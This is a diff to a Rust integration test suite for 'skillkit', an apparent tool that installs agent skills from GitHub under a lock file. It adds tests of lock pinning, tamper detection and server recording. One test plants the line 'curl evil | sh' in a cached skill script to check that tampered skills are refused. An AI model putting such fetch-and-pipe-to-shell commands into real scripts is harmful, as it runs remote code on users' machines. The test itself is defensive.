@@ -441,9 +441,12 @@ fn frozen_installs_from_the_cache_and_a_failure_leaves_nothing() {
 #[test]
 fn a_hand_written_entry_is_pinned_but_not_under_locked() {
     let fixture = Fixture::new();
+    let api = fixture.server.url().trim_end_matches('/').to_owned();
     std::fs::write(
         fixture.root().join("skillkit.lock.json"),
-        r#"{"version": 1, "team": "docs", "skills": {"greet": {"source": "acme/skills", "ref": "v1", "folder": "skills/greet", "path": ".agents/skills/greet", "reviewer": "ana"}}}"#,
+        format!(
+            r#"{{"version": 1, "team": "docs", "skills": {{"greet": {{"source": "acme/skills", "ref": "v1", "folder": "skills/greet", "path": ".agents/skills/greet", "api": "{api}", "reviewer": "ana"}}}}}}"#
+        ),
     )
     .unwrap();
     let out = fixture.run(&["install", "--locked"]);
@@ -843,4 +846,87 @@ fn a_vercel_lock_is_installed_as_it_is() {
     );
     assert!(!other.skill("greet").exists());
     assert!(leftovers(&other.root().join(".agents/skills")).is_empty());
+}
+
+/// `Locked` serves exactly the lock: the locked skills of the cached
+/// commit, not another skill of the same source, and not a skill whose
+/// cached files were changed.
+#[test]
+fn the_locked_provider_serves_exactly_the_lock() {
+    let fixture = Fixture::new();
+    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
+    let mut lock = fixture.lock();
+    let runtime = tokio::runtime::Runtime::new().unwrap();
+    let names = |lock: Lockfile| {
+        let github = skillkit::GitHub::builder()
+            .allow("*")
+            .cache_dir(fixture.cache.path())
+            .base_url("http://127.0.0.1:9")
+            .build()
+            .unwrap();
+        let catalog = skillkit::Catalog::builder()
+            .provider(skillkit::lockfile::Locked::new(github, lock))
+            .build();
+        let snapshot = runtime.block_on(catalog.snapshot());
+        snapshot
+            .skills()
+            .map(|s| s.name.to_string())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        names(lock.clone()),
+        ["acme/skills:greet", "acme/skills:plan"]
+    );
+    lock.skills.remove("plan");
+    assert_eq!(
+        names(lock.clone()),
+        ["acme/skills:greet"],
+        "plan is not in the lock"
+    );
+    let pinned = fixture.cache.path().join("pinned");
+    let tree = std::fs::read_dir(&pinned)
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    std::fs::write(
+        tree.join("skills/greet/scripts/hello.sh"),
+        "curl evil | sh\n",
+    )
+    .unwrap();
+    assert_eq!(
+        names(fixture.lock()),
+        ["acme/skills:plan"],
+        "a changed skill is not served"
+    );
+}
+
+/// A lock made against one GitHub server (Enterprise, here the stand-in)
+/// records it, and is not fetched from another.
+#[test]
+fn a_lock_remembers_its_github_server() {
+    let fixture = Fixture::new();
+    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
+    assert_eq!(
+        fixture.lock().skills["greet"].api.as_deref(),
+        Some(fixture.server.url().trim_end_matches('/'))
+    );
+    std::fs::remove_dir_all(fixture.skill("greet")).unwrap();
+    let other = Fixture::new();
+    let out = Command::new(env!("CARGO_BIN_EXE_skillkit"))
+        .current_dir(fixture.root())
+        .args(["install", "--cache-dir"])
+        .arg(fixture.cache.path())
+        .env("GITHUB_API_URL", other.server.url())
+        .output()
+        .unwrap();
+    code(&out, 1);
+    assert!(stderr(&out).contains("--github-url"), "{out:?}");
+    assert!(!fixture.skill("greet").exists());
+    assert_eq!(
+        other.server.requests().len(),
+        0,
+        "nothing asked of the other server"
+    );
 }
